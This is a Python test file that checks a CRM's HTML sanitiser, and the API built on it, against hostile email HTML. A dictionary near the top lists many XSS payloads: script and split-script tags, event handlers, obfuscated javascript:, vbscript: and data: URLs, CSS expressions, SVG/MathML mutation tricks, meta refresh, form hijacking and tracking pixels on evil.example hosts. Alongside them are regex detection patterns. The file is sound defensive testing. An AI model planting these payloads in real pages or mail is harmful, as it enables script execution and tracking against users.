"""Hostile HTML mail: what the CRM keeps and returns as an email's HTML body (`body_html` of the activities API,
the only place mail HTML leaves the server) is the output of crm_core.html_sanitising: no script in any
disguise, no event handler, no javascript:/vbscript:/data: URL, no CSS that runs or fetches, no SVG or MathML, no
meta refresh or <base>, no form; remote images (tracking pixels) lose their address, inline cid: images keep
theirs. No page renders mail HTML at all: the admin console, the add-in task pane and the service calendar put
mail text into textContent under a self-only Content-Security-Policy (their browser tests are listed in
docs/security.md)."""

import re
from email.message import EmailMessage
from pathlib import Path

import pytest

from crm_core.html_sanitising import sanitise_html
from mailbridge.tracking import TrackingOptions
from mailbridge.tracking.local_import import import_local
from tests.mailbridge.tracking_fixtures import emails, local_mailbox, maildir
from tests.org import OrgBuilder, TestUser

HOSTILE = {
    "script": "<script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "split script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "event handlers": '<img src=x onerror=alert(1)><body onload=alert(1)><div onmouseover="alert(1)">hi</div>'
    "<details open ontoggle=alert(1)>",
    "javascript url": '<a href="javascript:alert(1)">a</a><a href=" JaVaScRiPt:alert(1)">b</a>'
    '<a href="jav&#x09;ascript:alert(1)">c</a><a href="&#106;avascript:alert(1)">d</a>',
    "vbscript and data urls": '<a href="vbscript:msgbox(1)">v</a><a href="data:text/html,<script>alert(1)</script>">'
    'd</a><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "css expression and url": '<div style="width: expression(alert(1)); background: url(https://tracker.evil.example'
    '/css.gif); behavior: url(x.htc); -moz-binding: url(x.xml#xss)">css</div>',
    "style element and import": "<style>@import 'https://tracker.evil.example/a.css'; body{background:"
    "url(https://tracker.evil.example/b.gif)}</style>",
    "link stylesheet": '<link rel="stylesheet" href="https://tracker.evil.example/c.css">',
    "svg": '<svg onload=alert(1)><script>alert(1)</script><foreignObject><iframe src="javascript:alert(1)">'
    '</iframe></foreignObject><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "frames and objects": '<iframe src="https://evil.example/"></iframe><object data="x.swf"></object>'
    '<embed src="x.swf"><applet code="x"></applet>',
    "forms": '<form action="https://evil.example/"><input name=p><button formaction="https://evil.example/">go'
    "</button></form>",
    "mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'
    "<template><img src=x onerror=alert(1)></template>",
    "tracking pixels": '<img src="https://tracker.evil.example/pixel.gif" width=1 height=1>'
    '<img src="//tracker.evil.example/p2.gif"><img srcset="https://tracker.evil.example/p3.gif 1x">'
    '<table background="https://tracker.evil.example/t.gif"><tr>'
    '<td background="https://tracker.evil.example/td.gif">t</td></tr></table>'
    '<video poster="https://tracker.evil.example/v.gif"></video>'
    '<audio src="https://tracker.evil.example/a.mp3"></audio>'
    '<picture><source srcset="https://tracker.evil.example/s.gif"></picture>'
    '<input type="image" src="https://tracker.evil.example/i.gif">',
}
DANGER = re.compile(
    r"<\s*/?\s*(script|style|svg|math|meta|base|link|iframe|object|embed|applet|form|input|button|video|audio|"
    r"source|picture|template|noscript)\b|\son[a-z]+\s*=|javascript:|vbscript:|data:|expression\s*\(|url\s*\(|"
    r"behavior|-moz-binding|@import|srcset|poster|background=|tracker\.evil\.example|evil\.example/x\.js",
    re.IGNORECASE,
)


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE.keys())
def test_the_sanitiser_leaves_nothing_that_runs_or_fetches(html: str) -> None:
    safe = sanitise_html(f"<p>Before</p>{html}<p>After</p>")
    assert not DANGER.search(safe), safe
    assert "Before" in safe and "After" in safe  # the mail stays readable


def test_inline_images_keep_their_cid_and_plain_links_stay_links() -> None:
    safe = sanitise_html(
        '<img src="cid:logo@contoso.example" alt="logo"><a href="https://contoso.example/offer">offer</a>'
    )
    assert 'src="cid:logo@contoso.example"' in safe
    assert 'href="https://contoso.example/offer"' in safe and 'rel="noopener noreferrer nofollow"' in safe


def _hostile_mail() -> bytes:
    message = EmailMessage()
    message["From"] = "Mallory <mallory@evil.example>"
    message["To"] = "rep@contoso.example"
    message["Subject"] = "<img src=x onerror=alert(1)> Invoice"
    message["Message-ID"] = "<hostile-1@evil.example>"
    message.set_content("Plain part.")
    message.add_alternative(
        "<html><body><p>Before</p>" + "".join(HOSTILE.values()) + "<p>After</p></body></html>", subtype="html"
    )
    return message.as_bytes()


def test_a_tracked_hostile_mail_comes_back_from_the_api_safe(
    client, admin: TestUser, org: OrgBuilder, session_factory, tmp_path: Path
) -> None:
    box_id, rep = local_mailbox(client, admin, org, session_factory, incoming_filter="all")
    import_local(session_factory, box_id, maildir(tmp_path / "md", {"": [_hostile_mail()]}), TrackingOptions())
    [listed] = emails(client, rep)
    r = client.get(f"/api/v1/activities/{listed['id']}", headers=rep.headers)
    assert r.status_code == 200 and r.headers["content-type"] == "application/json"
    body_html = r.json()["body_html"]
    assert "Before" in body_html and "After" in body_html
    assert not DANGER.search(body_html), body_html
    assert r.json()["subject"] == "<img src=x onerror=alert(1)> Invoice"  # text, shown as text by every page


# What a page could run; remote images stay in HTML a user writes (an email composed in the CRM shows its pictures).
RUNS = re.compile(
    r"<\s*/?\s*(script|svg|math|meta|base|iframe|object|embed|form)\b|\son[a-z]+\s*=|javascript:|vbscript:|"
    r"expression\s*\(|evil\.example/x\.js",
    re.IGNORECASE,
)


def test_html_written_through_the_api_is_stored_sanitised(client, admin: TestUser) -> None:
    hostile = "<p>Before</p>" + "".join(HOSTILE.values()) + '<img src="https://cdn.contoso.example/logo.png"><p>After</p>'
    r = client.post("/api/v1/activities", json={"activity_type": "email", "subject": "Offer", "body_html": hostile},
                    headers=admin.headers)
    assert r.status_code == 201, r.text
    stored = client.get(f"/api/v1/activities/{r.json()['id']}", headers=admin.headers).json()["body_html"]
    assert not RUNS.search(stored), stored
    assert "Before" in stored and "After" in stored
    assert 'src="https://cdn.contoso.example/logo.png"' in stored  # the writer's own picture stays
    r = client.patch(f"/api/v1/activities/{r.json()['id']}", json={"body_html": '<a href="javascript:alert(1)">x</a>'},
                     headers=admin.headers)
    assert r.status_code == 200, r.text
    assert "javascript:" not in r.json()["body_html"] and ">x</a>" in r.json()["body_html"]
